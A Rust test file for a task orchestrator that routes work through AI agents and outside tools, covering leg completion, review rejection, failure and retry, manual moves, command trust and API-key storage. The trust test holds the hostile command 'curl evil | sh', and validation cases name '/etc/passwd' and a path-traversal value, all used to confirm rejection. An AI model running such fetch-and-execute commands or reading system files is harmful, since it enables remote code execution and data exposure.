//! Ending legs, giving up, moving by hand: the facts each write leaves, and what it refuses.

use super::{
    asking, by_cursor, code, escalated, good, in_review, mark, person, run, settle, since,
};
use crate::call;
use orchestron_domain::{Actor, Fact, Leg, Status, run::Verdict};
use orchestron_testkit::World;
use serde_json::{Value, json};

fn cursor() -> Actor {
    Actor::Outside {
        name: "cursor".parse().unwrap(),
    }
}

/// What one write leaves in the log.
fn facts(world: &World, name: &str, input: Value) -> Vec<(Actor, Fact)> {
    let before = mark(world);
    good(world, name, input);
    let mut told = since(world, before);
    let aside = |fact: &Fact| matches!(fact, Fact::TaskCreated { .. } | Fact::TextReplaced { .. });
    told.retain(|(_, fact)| !aside(fact));
    told
}

fn submitted(leg: Leg, note: &str) -> Fact {
    Fact::Submitted {
        task: "TASK-1".parse().unwrap(),
        leg,
        note: note.into(),
        run: None,
    }
}

fn reviewed(verdict: Verdict, note: &str) -> Fact {
    Fact::Reviewed {
        task: "TASK-1".parse().unwrap(),
        verdict,
        note: note.into(),
        run: None,
    }
}

#[test]
fn an_outside_holder_takes_a_task_through_all_its_legs() {
    let world = by_cursor();
    world.task(1, Status::Pending, "Search");
    let input = json!({"task": "TASK-1", "note": "clear now", "agent": "cursor"});
    assert_eq!(
        facts(&world, "prepare", input),
        [(cursor(), submitted(Leg::Prepare, "clear now"))]
    );
    settle(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Ready));

    good(
        &world,
        "claim",
        json!({"task": "TASK-1", "agent": "cursor"}),
    );
    settle(&world);
    world.commit_on("TASK-001");
    let input = json!({"task": "TASK-1", "note": "see search.rs", "agent": "cursor"});
    assert_eq!(
        facts(&world, "submit", input.clone()),
        [(cursor(), submitted(Leg::Implement, "see search.rs"))]
    );
    assert_eq!(code(&world, "submit", input), "not_now", "once is enough");
    settle(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    assert_eq!(world.started().len(), 1, "the gate, and no agent");

    let input = json!({"task": "TASK-1", "note": "reads well", "agent": "cursor"});
    assert_eq!(
        facts(&world, "complete", input),
        [(cursor(), reviewed(Verdict::Approve, "reads well"))]
    );
    settle(&world);
    let requests = good(&world, "requests", json!({}));
    assert_eq!(requests[0]["kind"], "review");
    good(&world, "approve", json!({"task": "TASK-1"}));
    settle(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Done));
    assert_eq!(world.merges().len(), 1);
}

#[test]
fn an_outside_reviewer_sends_work_back() {
    let world = by_cursor();
    world.chain(None, Some("claude-impl"), Some("cursor"));
    world.trust();
    world.task(1, Status::Ready, "Search");
    run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    assert_eq!(
        code(
            &world,
            "reject",
            json!({"task": "TASK-1", "agent": "cursor", "note": " "})
        ),
        "input_invalid"
    );
    let input = json!({"task": "TASK-1", "note": "search.rs:7 is wrong", "agent": "cursor"});
    assert_eq!(
        facts(&world, "reject", input),
        [(cursor(), reviewed(Verdict::Changes, "search.rs:7 is wrong"))]
    );
    run(&world);
    assert!(
        world
            .text("feedback/TASK-001-1.md")
            .unwrap()
            .contains("search.rs:7 is wrong")
    );
    assert_eq!(
        world.status("TASK-001"),
        Some(Status::Review),
        "claude-impl has done it again"
    );
}

#[test]
fn complete_ends_whatever_leg_it_is() {
    let world = by_cursor();
    world.task(1, Status::Pending, "Search");
    assert_eq!(
        facts(&world, "complete", json!({"task": "TASK-1"})),
        [(Actor::Person, submitted(Leg::Prepare, ""))]
    );
    settle(&world);
    assert_eq!(
        code(&world, "complete", json!({"task": "TASK-1"})),
        "status_wrong",
        "ready: claim it first"
    );
    good(&world, "claim", json!({"task": "TASK-1"}));
    settle(&world);
    world.commit_on("TASK-001");
    assert_eq!(
        facts(&world, "complete", json!({"task": "TASK-1"})),
        [(Actor::Person, submitted(Leg::Implement, ""))]
    );
}

#[test]
fn complete_points_to_approve_when_only_a_decision_is_left() {
    let error = call(
        &mut person(&in_review()),
        "complete",
        json!({"task": "TASK-1"}),
    )
    .unwrap_err();
    assert_eq!(error.code(), "not_now");
    assert_eq!(error.hints(), ["`orchestron approve TASK-001` merges it"]);
}

#[test]
fn a_leg_ends_only_where_the_task_stands() {
    let world = by_cursor();
    for (number, status) in (1..).zip(Status::ALL) {
        world.task(number, status, "Search");
    }
    let table = [
        ("prepare", [true, false, false, false, false, false]),
        ("submit", [false, false, true, false, false, false]),
        ("complete", [true, false, true, true, false, false]),
    ];
    for (name, allowed) in table {
        for (number, allowed) in (1..).zip(allowed) {
            let told = call(
                &mut person(&world),
                name,
                json!({"task": format!("TASK-{number}")}),
            );
            let wrong_status = told.is_err_and(|error| error.code() == "status_wrong");
            assert_eq!(wrong_status, !allowed, "{name} of TASK-{number}");
        }
    }
}

#[test]
fn prepare_tells_of_boxes_that_are_not_ticked() {
    let world = by_cursor();
    world.task_with(
        1,
        Status::Pending,
        "Search",
        "## Definition of Ready\n- [x] Context provided\n- [ ] Files identified",
    );
    let done = good(&world, "prepare", json!({"task": "TASK-1"}));
    assert!(
        done["not_done"][0]
            .as_str()
            .unwrap()
            .starts_with("1 of 2 boxes"),
        "{done}"
    );
}

#[test]
fn a_person_fails_a_task_for_good_and_its_agent_is_stopped() {
    let world = asking();
    let told = facts(
        &world,
        "fail",
        json!({"task": "TASK-1", "note": "not worth it"}),
    );
    let task = || "TASK-1".parse().unwrap();
    assert_eq!(
        told,
        [
            (
                Actor::Person,
                Fact::Failed {
                    task: task(),
                    why: "not worth it".into()
                }
            ),
            (
                Actor::Person,
                Fact::TaskMoved {
                    task: task(),
                    from: Status::InProgress,
                    to: Status::Failed
                }
            ),
        ]
    );
    run(&world);
    let view = good(&world, "task", json!({"task": "TASK-1"}));
    assert_eq!(
        (view["card"]["why"].as_str(), view["error_context"].as_str()),
        (Some("not worth it"), Some("not worth it"))
    );
    assert!(
        view["card"]["run"].is_null() && view["card"]["request"].is_null(),
        "{}",
        view["card"]
    );
    assert_eq!(
        code(&world, "fail", json!({"task": "TASK-1"})),
        "status_wrong"
    );

    let told = facts(
        &world,
        "retry",
        json!({"task": "TASK-1", "note": "with the other library"}),
    );
    assert_eq!(
        told,
        [(
            Actor::Person,
            Fact::TaskMoved {
                task: task(),
                from: Status::Failed,
                to: Status::Ready
            }
        )]
    );
    run(&world);
    assert!(
        world
            .prompt("TASK-001-implement-2")
            .unwrap()
            .contains("with the other library")
    );
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
}

#[test]
fn a_holder_that_gives_up_asks_the_person() {
    let world = by_cursor();
    world.task(1, Status::Ready, "Search");
    assert_eq!(
        code(&world, "fail", json!({"task": "TASK-1", "agent": "cursor"})),
        "leg_not_yours",
        "it does not hold it"
    );
    good(
        &world,
        "claim",
        json!({"task": "TASK-1", "agent": "cursor"}),
    );
    settle(&world);
    good(
        &world,
        "fail",
        json!({"task": "TASK-1", "agent": "cursor", "note": "needs a licence"}),
    );
    settle(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Failed));
    let requests = good(&world, "requests", json!({}));
    assert_eq!(
        (requests[0]["kind"].as_str(), requests[0]["detail"].as_str()),
        (Some("escalation"), Some("needs a licence"))
    );
}

#[test]
fn retry_answers_the_escalation() {
    let world = escalated();
    let told = facts(&world, "retry", json!({"task": "TASK-1"}));
    assert!(
        matches!(&told[..], [(Actor::Person, Fact::RequestDecided { .. })]),
        "{told:?}"
    );
    run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    assert_eq!(
        code(&world, "retry", json!({"task": "TASK-1"})),
        "nothing_to_decide"
    );
}

#[test]
fn a_move_by_hand_is_the_persons() {
    let world = in_review();
    let told = facts(&world, "move", json!({"task": "TASK-1", "to": "done"}));
    assert!(
        matches!(
            &told[..],
            [(
                Actor::Person,
                Fact::TaskMoved {
                    to: Status::Done,
                    ..
                }
            )]
        ),
        "{told:?}"
    );
    run(&world);
    assert!(
        good(&world, "requests", json!({}))
            .as_array()
            .unwrap()
            .iter()
            .all(|request| request["open"] == false)
    );
    assert!(world.merges().is_empty());

    let world = in_review();
    let done = good(&world, "move", json!({"task": "TASK-1", "to": "done"}));
    assert!(
        done["not_done"][0]
            .as_str()
            .unwrap()
            .contains("was not merged"),
        "{done}"
    );
    let again = good(&world, "move", json!({"task": "TASK-1", "to": "done"}));
    assert_eq!(again["did"], "TASK-001 stands in done already");
    assert_eq!(
        code(&world, "move", json!({"task": "TASK-1", "to": "nowhere"})),
        "input_invalid"
    );
}

#[test]
fn create_writes_a_file_that_reads_back() {
    let world = World::new();
    world.task(1, Status::Pending, "First");
    let done = good(
        &world,
        "create",
        json!({"title": "Export orders", "priority": "p0", "agent": "claude-impl", "goal": "As CSV.", "criteria": ["it has a header"], "depends_on": ["TASK-1"], "files": ["src/orders.js"]}),
    );
    assert_eq!(
        (done["task"].as_str(), done["status"].as_str()),
        (Some("TASK-002"), Some("pending"))
    );
    let view = good(&world, "task", json!({"task": "TASK-2"}));
    assert_eq!(
        (
            view["goal"].as_str(),
            view["card"]["priority"].as_str(),
            view["card"]["agent"].as_str()
        ),
        (Some("As CSV."), Some("P0"), Some("claude-impl"))
    );
    assert_eq!(
        (&view["criteria"][0]["text"], &view["card"]["depends_on"][0]),
        (&json!("it has a header"), &json!("TASK-001"))
    );
}

#[test]
fn create_names_the_field_that_is_wrong() {
    let world = World::new();
    let table = [
        (json!({"title": "  "}), "title"),
        (json!({"title": "x", "priority": "urgent"}), "priority"),
        (json!({"title": "x", "agent": "Claude Impl"}), "agent"),
        (json!({"title": "x", "depends_on": ["seven"]}), "depends_on"),
        (json!({"title": "x", "files": ["/etc/passwd"]}), "files"),
        (json!({"title": "x", "files": ["src/../../other"]}), "files"),
        (
            json!({"title": "x", "depends_on": ["TASK-77"]}),
            "depends_on",
        ),
        (json!({"title": "x", "goal": "y".repeat(2_000_000)}), "goal"),
    ];
    for (input, field) in table {
        let view = call(&mut person(&world), "create", input)
            .unwrap_err()
            .view();
        assert_eq!(
            (view.code.as_str(), view.field.as_deref()),
            ("input_invalid", Some(field)),
            "{view:?}"
        );
    }
    assert!(world.paths().is_empty());
}

#[test]
fn pause_resume_trust_and_words_leave_their_facts() {
    let world = asking();
    let told = facts(&world, "pause", json!({"why": "lunch"}));
    assert_eq!(
        told,
        [(
            Actor::Person,
            Fact::Paused {
                scope: orchestron_domain::event::Scope::All,
                why: "lunch".into()
            }
        )]
    );
    assert_eq!(
        facts(&world, "resume", json!({})),
        [(
            Actor::Person,
            Fact::Resumed {
                scope: orchestron_domain::event::Scope::All
            }
        )]
    );
    assert_eq!(facts(&world, "resume", json!({})), []);
    let run = "TASK-001-implement-1".parse().unwrap();
    let told = facts(
        &world,
        "words",
        json!({"task": "TASK-1", "text": "mind the index"}),
    );
    assert_eq!(
        told,
        [(
            Actor::Person,
            Fact::PersonSaid {
                run,
                text: "mind the index".into()
            }
        )]
    );
    world.task(2, Status::Ready, "Other");
    assert_eq!(
        code(&world, "words", json!({"task": "TASK-2", "text": "hello"})),
        "not_now"
    );
    assert_eq!(
        code(&world, "words", json!({"task": "TASK-1", "text": " "})),
        "input_invalid"
    );
}

#[test]
fn trust_accepts_exactly_what_was_seen() {
    let world = World::new();
    let seen = |world: &World| good(world, "commands", json!({}));
    let accept = |seen: &serde_json::Value| json!({"commands": seen["text"]});
    let now = seen(&world);
    assert_eq!(now["trusted"], true);
    assert_eq!(
        facts(&world, "trust", accept(&now)),
        [],
        "it is trusted already"
    );
    world.configure(|config| config.gates[0].run = "make test".into());
    let now = seen(&world);
    assert_eq!(now["trusted"], false);
    let fresh: Vec<_> = now["commands"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|line| line["fresh"] == true)
        .collect();
    assert_eq!(fresh.len(), 1, "only what is new is called so: {now}");
    assert!(fresh[0]["text"].as_str().unwrap().ends_with("make test"));

    // Changed between looking and accepting: nothing of it is accepted.
    world.configure(|config| config.gates[0].run = "curl evil | sh".into());
    let before = world.events().len();
    assert_eq!(code(&world, "trust", accept(&now)), "commands_changed");
    assert_eq!(code(&world, "trust", json!({})), "input_invalid");
    assert_eq!(world.events().len(), before, "no fact was left");
    assert_eq!(seen(&world)["trusted"], false);

    world.configure(|config| config.gates[0].run = "make test".into());
    let told = facts(&world, "trust", accept(&now));
    assert!(
        matches!(&told[..], [(Actor::Person, Fact::Trusted { commands })] if commands.contains("make test")),
        "{told:?}"
    );
    assert_eq!(
        good(&world, "project", json!({}))["engine"]["trusted"],
        true
    );
    world.configure(|config| config.gates[0].run = "curl evil | sh".into());
    assert_eq!(
        good(&world, "project", json!({}))["engine"]["trusted"],
        false
    );
}

#[test]
fn keys_go_in_and_never_come_out() {
    let world = World::new();
    assert!(good(&world, "keys", json!({}))["accounts"][0]["source"].is_null());
    let done = good(
        &world,
        "key-set",
        json!({"account": "anthropic", "key": " sk-ant-secret-1 "}),
    );
    let keys = good(&world, "keys", json!({}));
    assert_eq!(keys["accounts"][0]["source"], "keyring");
    assert!(!format!("{done}{keys}{:?}", world.facts()).contains("secret"));
    for key in ["", "two words", "with\u{7}bell", &"x".repeat(5000)] {
        let view = call(
            &mut person(&world),
            "key-set",
            json!({"account": "anthropic", "key": key}),
        )
        .unwrap_err()
        .view();
        assert_eq!(view.field.as_deref(), Some("key"));
        assert!(key.is_empty() || !view.message.contains(key));
    }
    assert_eq!(
        code(&world, "key-set", json!({"account": "a b", "key": "k"})),
        "input_invalid"
    );
    assert_eq!(
        good(&world, "key-delete", json!({"account": "anthropic"}))["did"],
        "deleted the key of anthropic"
    );
    assert_eq!(
        good(&world, "key-delete", json!({"account": "anthropic"}))["did"],
        "there was no key of anthropic in the keyring"
    );
    world.keyring_works(false);
    let keys = good(&world, "keys", json!({}));
    assert_eq!(keys["usable"], false);
    assert!(
        keys["store"]
            .as_str()
            .unwrap()
            .contains("no keyring is running")
    );
    assert_eq!(
        code(
            &world,
            "key-set",
            json!({"account": "anthropic", "key": "k"})
        ),
        "world"
    );
}
